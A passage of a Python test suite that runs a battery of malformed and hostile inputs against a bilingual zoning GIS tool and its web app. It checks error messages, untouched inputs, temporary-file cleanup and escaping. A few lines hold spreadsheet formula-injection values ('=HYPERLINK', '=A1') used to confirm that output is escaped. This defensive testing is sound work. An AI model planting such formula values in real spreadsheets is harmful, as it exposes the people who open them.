    Case("raster-resolution-nan", ["raster", w("build"), "--resolution", "nan", "-o", "{out}/z.tif"], says=("--resolution",)),
    Case("check-many-sites-summary", ["check", w("many_csv"), "-z", w("build"), "-o", "{out}/r.csv"], expect="ok", check=check_summary),
    Case("check-many-sites-verbose", ["check", w("many_csv"), "-z", w("build"), "--verbose"], expect="ok", check=check_verbose),
    Case("raster-stale-temporary", ["raster", w("build"), "-r", "50", "-o", "{out}/z.tif"], expect="ok", check=check_stale_removed),
    # --------------------------------------------------- planners' own files
    Case("check-kml", ["check", w("kml"), "-z", w("build"), "-o", "{out}/r.csv"], expect="ok", check=check_kml),
    Case("check-kmz", ["check", w("kmz"), "-z", w("build"), "-o", "{out}/r.csv"], expect="ok", check=check_kml),
    Case("check-mapinfo-tab", ["check", w("tab"), "-z", w("build"), "-o", "{out}/r.csv"], expect="ok", check=same_verdicts_as_csv("r.csv")),
    Case("check-mapinfo-mif", ["check", w("mif"), "-z", w("build"), "-o", "{out}/r.csv"], expect="ok", check=same_verdicts_as_csv("r.csv")),
    Case("check-dgn-without-crs", ["check", w("dgn"), "-z", w("build")], says=("parcels.dgn", "--crs")),
    Case("check-dgn-with-crs", ["check", w("dgn"), "--crs", "EPSG:9210", "-z", w("build"), "-o", "{out}/r.csv"], expect="ok", check=check_dgn),
    Case("check-semicolon-csv", ["check", w("semicolon"), "-z", w("build"), "-o", "{out}/r.csv"], expect="ok", check=same_verdicts_as_csv("r.csv")),
    Case("check-csv-columns", ["check", w("csv"), "-z", w("build"), "-o", "{out}/r.csv"], expect="ok", check=check_table_columns),
    Case("check-english-console", ["--lang", "en", "check", w("csv"), "-z", w("build")], expect="ok", check=check_english),
    Case("layers-check-ok", ["layers", "check", w("folder"), "-o", "{out}/c.xlsx"], expect="ok", says=("No problem stands in the way of a build",)),
    Case("layers-check-out-is-input", ["layers", "check", w("gpkg"), "-o", w("gpkg")], says=("in.gpkg",)),
    Case("layers-check-html-in-input-folder", ["layers", "check", w("folder"), "-o", "{out}/c.xlsx", "--html", "{folder}/c.html"], says=("c.html",)),
    Case("layers-check-unknown-province", ["layers", "check", w("folder"), "-p", "Atlantis", "-o", "{out}/c.xlsx"], says=("Atlantis",)),
    Case("build-has-qgis-styles", ["build", "--layers", w("folder"), "--central-meridian", "105.75", "-o", "{out}/b.gpkg"], expect="ok", check=check_styles),
    Case(
        "build-missing-layers", ["build", "--layers", "{out}/none.gpkg", "--central-meridian", "105.75", "-o", "{out}/b.gpkg"], says=("none.gpkg", "not found")
    ),
    # damaged builds, dates, invisible characters, flat geometry, silent cuts and empty results
    *silent_cases(Case, w),
]


def assert_escaped(path: Path) -> None:
    page = path.read_text(encoding="utf-8")
    assert "\x0b" not in page and "\x01" not in page
    assert '=HYPERLINK(\\"http' in page or "=HYPERLINK(&quot;" in page or "=HYPERLINK(\\u0022" in page


def assert_count(path: Path, n: int) -> None:
    assert len(csv_rows(path)) == n


@pytest.fixture
def readonly(tmp_path) -> Path:
    folder = read_only_folder(tmp_path)
    yield folder
    if folder.is_relative_to(tmp_path):
        folder.chmod(0o755)


def case_arguments(case: Case, world, out: Path, request) -> list[str]:
    """The command line of a case with its places filled in; what the case needs made in ``out``."""
    places = {**{k: str(v) for k, v in world.items()}, "out": str(out), "root": str(world["root"]), "folder": str(world["folder"])}
    if "{readonly}" in " ".join(case.args):
        places["readonly"] = str(request.getfixturevalue("readonly"))
    if case.id == "map-out-folder-named-html":
        (out / "dir.html").mkdir()
    if case.id == "raster-stale-temporary":
        stale = temporary_path(out / "z.tif", pid=2**22 + 12345)  # a process that no longer runs
        stale.write_bytes(b"half a tiff")
    return [a.format(**places) if "{" in a and not a.startswith("{code") else a for a in case.args]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_input(case: Case, world, tmp_path, request):
    out = tmp_path / "out"
    out.mkdir()
    args = case_arguments(case, world, out, request)
    before_world, before_out = digests(world["root"]), digests(out)
    result = invoke(args)
    text = result.stdout + result.stderr

    traceback = result.exception is not None and not isinstance(result.exception, SystemExit)
    if traceback:
        TALLY["traceback"].append(case.id)
    assert not traceback, f"{case.id}: traceback\n{text}\n{result.exception!r}"
    after_world = digests(world["root"])
    changed = {k for k in before_world if before_world[k] != after_world.get(k)}
    if changed:
        TALLY["unsafe"].append(case.id)
    assert not changed, f"{case.id}: input file(s) changed: {changed}"
    for extra in case.outputs:
        (world["root"] / extra).unlink(missing_ok=True)
    leftovers = [p for p in (*world["root"].rglob(".*part*"), *out.rglob(".*part*"))]
    assert not leftovers, f"{case.id}: temporaries left: {leftovers}"

    if case.expect == "error":
        assert result.exit_code == 2, f"{case.id}: exit {result.exit_code}\n{text}"
        assert "Lỗi / Error:" in result.stderr and "→ Cách sửa / What to do:" in result.stderr, result.stderr
        for fragment in case.says:
            assert fragment in " ".join(result.stderr.split()), f"{case.id}: {fragment!r} not in\n{result.stderr}"
        assert digests(out) == before_out, f"{case.id}: output written on error"
        assert "Traceback" not in text
        TALLY["error"].append(case.id)
    else:
        assert result.exit_code == 0, f"{case.id}: exit {result.exit_code}\n{text}"
        for fragment in case.says:
            assert fragment in " ".join(text.split()), f"{case.id}: {fragment!r} not in\n{text}"
        try:
            if case.check is not None:
                case.check(world, out, result)
        except AssertionError:
            TALLY["unsafe" if case.unsafe_check else "wrong"].append(case.id)
            raise
        TALLY["ok"].append(case.id)


WEB_CASES = web_cases(site_rows(), google_earth_kml(site_rows()))


@pytest.fixture(scope="module")
def web_client(world):
    from fastapi.testclient import TestClient

    from zoning.web import create_app

    with TestClient(create_app([world["build"]], offline=True)) as client:
        yield client


@pytest.mark.parametrize("case", WEB_CASES, ids=[c.id for c in WEB_CASES])
def test_hostile_request(case: WebCase, world, web_client):
    """One request to the web application: the status, a message in both languages naming what is wrong, inputs
    unchanged, no upload folder left behind, and for a good request the right answer."""
    import tempfile

    from zoning.web.inputs import UPLOAD_PREFIX

    uploads = set(Path(tempfile.gettempdir()).glob(UPLOAD_PREFIX + "*"))
    before = digests(world["root"])
    request: dict = {"files": case.files(world)} if case.files else {}
    request |= {"data": case.data} if case.data else {}
    request |= {"json": case.json} if case.json is not None else {}
    request |= {"content": case.raw, "headers": {"content-type": "application/json"}} if case.raw is not None else {}
    try:
        response = web_client.post(case.path, **request)
    except Exception:
        TALLY["traceback"].append(case.id)
        raise
    if response.status_code >= 500:
        TALLY["traceback"].append(case.id)
    assert response.status_code < 500, f"{case.id}: {response.status_code} {response.text[:500]}"
    after = digests(world["root"])
    if any(before[k] != after.get(k) for k in before):
        TALLY["unsafe"].append(case.id)
    assert before == {k: after[k] for k in before}, f"{case.id}: input changed"
    assert set(Path(tempfile.gettempdir()).glob(UPLOAD_PREFIX + "*")) == uploads, f"{case.id}: upload folder left"
    assert response.status_code == case.status, f"{case.id}: {response.status_code} {response.text[:500]}"
    if case.status >= 400:
        error = response.json()["error"]
        assert error["vi"] and error["en"] and error["vi"] != error["en"], error
        text = " ".join([error["vi"], error["en"], *(error.get("hint") or {}).values()])
        assert "<GeoDataFrame>" not in text and "Traceback" not in text and "/tmp/" not in text, text
        for fragment in case.says:
            assert fragment in text, f"{case.id}: {fragment!r} not in {text}"
        TALLY["error"].append(case.id)
        return
    try:
        if case.check is not None:
            case.check(response.json())
    except AssertionError:
        TALLY["wrong"].append(case.id)
        raise
    TALLY["ok"].append(case.id)


def test_tally():
    """The figures of the battery (printed with ``pytest -s``): every case behaved."""
    tried = len(CASES) + len(WEB_CASES)
    counted = len(TALLY["error"]) + len(TALLY["ok"])
    line = (
        f"tried {tried}, clear errors {len(TALLY['error'])}, correct results {len(TALLY['ok'])}, "
        f"tracebacks {len(TALLY['traceback'])}, wrong {len(TALLY['wrong'])}, unsafe {len(TALLY['unsafe'])}"
    )
    print("\n" + line)
    if counted == 0:
        pytest.skip("the battery was not run in this session")
    assert tried >= 150
    assert not TALLY["traceback"] and not TALLY["wrong"] and not TALLY["unsafe"], line
    assert counted == tried, line


# ------------------------------------------------------------------- unit-level tests


def test_temporary_name_is_short_and_per_output(tmp_path):
    long = tmp_path / ("x" * 250 + ".gpkg")
    tmp = temporary_path(long)
    assert len(tmp.name) < 40 and tmp.suffix == ".gpkg" and tmp.parent == tmp_path
    assert temporary_path(long) == tmp and temporary_path(tmp_path / "other.gpkg") != tmp


def test_a_killed_run_leaves_a_temporary_that_the_next_run_removes(tmp_path, small_build_path):
    import signal
    import subprocess
    import sys
    import time

    out = tmp_path / "z.tif"
    script = (
        "import time, zoning.files as f\nfrom pathlib import Path\n"
        f"with f.atomic_path(Path({str(out)!r})) as tmp:\n    tmp.write_bytes(b'half')\n    print('ready', flush=True)\n    time.sleep(60)\n"
    )
    process = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, text=True)
    assert process.stdout.readline().strip() == "ready"
    os.kill(process.pid, signal.SIGKILL)
    process.wait()
    assert [p.name for p in tmp_path.glob(".*part*")] and not out.exists()  # the final path is never damaged
    time.sleep(0.1)
    result = invoke(["raster", small_build_path, "-r", "50", "-o", out])
    assert result.exit_code == 0, result.stdout + result.stderr
    assert not list(tmp_path.glob(".*part*")) and out.exists()


def test_progress_lines_are_written_as_steps_start(capsys):
    with cli.console.progress_steps("Thử / Test", total=2) as advance:
        advance("một")
        first = capsys.readouterr().err
        advance("hai")
        second = capsys.readouterr().err
    assert "[1/2] Thử / Test: một" in first and "[2/2] Thử / Test: hai" in second


def test_qgis_styles_carry_the_colours_and_names_of_terms(small_build_path):
    import xml.etree.ElementTree as ET

    styles = pyogrio.read_dataframe(small_build_path, layer="layer_styles", read_geometry=False).set_index("f_table_name")
    assert list(styles.index) == ["zones", "units", "communes"] and styles["useAsDefault"].all()
    geometry = {layer: pyogrio.read_info(small_build_path, layer=layer)["geometry_name"] for layer in styles.index}
    assert styles["f_geometry_column"].to_dict() == geometry
    for layer in ("zones", "units"):
        qml = ET.fromstring(styles.loc[layer, "styleQML"].split("\n", 1)[1])
        renderer = qml.find("renderer-v2")
        assert renderer.get("type") == "categorizedSymbol" and renderer.get("attr") == "zone"
        labels = {c.get("value"): c.get("label") for c in renderer.iter("category")}
        assert labels == {z: f"{terms.label('zones', z)} / {terms.label('zones', z, 'en')}" for z in terms.ZONE_ORDER}
        fills = [s.find("layer/Option/Option[@name='color']").get("value") for s in renderer.iter("symbol")]
        expected = [",".join(str(int(terms.colour("zones", z)[i : i + 2], 16)) for i in (1, 3, 5)) for z in terms.ZONE_ORDER]
        assert [f.rsplit(",", 1)[0] for f in fills] == expected
        sld = ET.fromstring(styles.loc[layer, "styleSLD"].encode())
        ns = {"se": "http://www.opengis.net/se"}
        colours = [p.text for p in sld.iterfind(".//se:Fill/se:SvgParameter[@name='fill']", ns)]
        assert colours == [terms.colour("zones", z) for z in terms.ZONE_ORDER]
        titles = [t.text for t in sld.iterfind(".//se:Rule/se:Description/se:Title", ns)]
        assert titles == list(labels.values())
    communes = ET.fromstring(styles.loc["communes", "styleQML"].split("\n", 1)[1])
    assert communes.find("renderer-v2").get("type") == "singleSymbol" and communes.find("labeling") is not None


def test_formula_cells_stay_numbers_when_numbers():
    from zoning.outputs.xlsx import csv_safe, formula_like

    table = csv_safe(pd.DataFrame({"text": ["-5", "=A1", "\tx", "a=b"], "number": [-5.0, 1.0, math.nan, 2.0]}))
    assert table["text"].tolist() == ["-5", "'=A1", "'\tx", "a=b"] and table["number"].iloc[0] == -5.0
    assert not formula_like("1.5e-3") and formula_like("+") and formula_like("@")


def test_control_characters_and_nfc_at_the_front_door():
    from zoning.inputs.layers import check_layer
    from zoning.inputs.sites import site_kind

    raw = frame([{"id": "a", "name": unicodedata.normalize("NFD", "Bằng\x0b\x00Giang"), "geometry": Point(X0 + 10, Y0 + 10)}])
    notes: list[str] = []
    layer, _ = check_layer(raw, site_kind(), "t.gpkg", CRS, notes=notes)
    assert layer["name"].iloc[0] == "Bằng Giang" and unicodedata.is_normalized("NFC", layer["name"].iloc[0])
    assert len(notes) == 1 and "'name'" in notes[0] and "feature(s) a" in notes[0]


def test_output_guard_names_both_paths(tmp_path):
    from zoning.errors import InputError
    from zoning.files import check_output

    source = tmp_path / "in.gpkg"
    source.write_bytes(b"x")
    with pytest.raises(InputError) as error:
        check_output(tmp_path / "sub" / ".." / "in.gpkg", [source])
    assert str(source) in error.value.message
    assert check_output(tmp_path / "new" / "deeper" / "out.gpkg", [source]).name == "out.gpkg"  # folders to create are fine
